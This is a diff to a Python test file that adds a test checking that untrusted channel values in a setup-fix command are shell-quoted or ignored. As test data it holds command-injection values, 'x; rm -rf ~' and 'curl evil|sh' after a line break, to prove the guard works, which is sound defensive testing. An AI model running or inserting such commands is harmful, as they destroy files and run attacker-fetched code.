@@ -203,3 +203,15 @@ def test_the_fix_plan_shown_before_fix_runs_hides_the_credentials(tmp_path: Path
     console.json(report_data(report))
     shown = out.getvalue()
     assert SECRET not in shown and "https://***@mirror.uni.example/pytorch/whl/cu130" in shown
+
+
+def test_a_reports_odd_record_values_are_quoted_or_ignored() -> None:
+    """--from values are untrusted: a channel with shell syntax is quoted, one with a line
+    break leaves the fix line as it was (a pasted command must stay one command)."""
+    import shlex
+
+    odd = SetupRecordFacts(channels=("x; rm -rf ~",), channels_given=True)
+    line = fix_with_sources("coursekit setup --force", odd)
+    assert shlex.split(line) == ["coursekit", "setup", "--force", "--channel", "x; rm -rf ~"]
+    broken = SetupRecordFacts(channels=("https://m/c\ncurl evil|sh",), channels_given=True)
+    assert fix_with_sources("coursekit setup --force", broken) == "coursekit setup --force"
